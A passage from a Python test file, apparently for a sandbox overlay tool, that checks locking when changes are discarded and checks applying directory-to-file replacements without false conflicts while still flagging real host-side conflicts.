    from stockade.lifecycle.changes import RELEASE_GRACE

    root, _ = project
    result = overlay(root, SCRIPT)
    holder = _lock_held_for(result.changes, RELEASE_GRACE / 4)
    result.changes.discard()
    assert not os.path.lexists(result.changes.path)
    holder.wait(timeout=10)
    result = overlay(root, SCRIPT)
    holder = _lock_held_for(result.changes, RELEASE_GRACE * 3)
    try:
        with pytest.raises(ChangesError) as refused:
            result.changes.discard()
        assert refused.value.code == "changes_busy"
        assert os.path.isdir(result.changes.path)
    finally:
        holder.kill()
        holder.wait(timeout=10)
    result.changes.discard()


def test_a_directory_replaced_by_a_file_and_back_is_applied_without_a_false_conflict(ws):
    """ov2: `rm -rf d; echo x > d` (and a file made a directory) in the overlay: the review
    lists the deletion and the addition at the same path, and apply lands both (failed
    before: refused, "d: created on the host since the run started", though the host did
    nothing); a host that did change what the run replaced is still a conflict."""
    root, _ = ws
    (root / "d").mkdir()
    (root / "d" / "v").write_text("v\n")
    (root / "f").write_text("f\n")
    result = overlay(root, "rm -rf d f && echo x > d && mkdir f && echo y > f/y")
    assert result.returncode == 0, result.stderr
    result.changes.apply()
    assert (root / "d").read_text() == "x\n" and (root / "f" / "y").read_text() == "y\n"
    assert sorted(os.listdir(root)) == ["d", "f"]
    result = overlay(root, "rm -rf f && echo z > f")
    assert result.returncode == 0, result.stderr
    (root / "f" / "theirs").write_text("made on the host meanwhile\n")
    with pytest.raises(ChangesError) as refused:
        result.changes.apply()
    assert refused.value.code == "changes_conflict"
    assert (root / "f" / "theirs").exists()
    result.changes.discard()
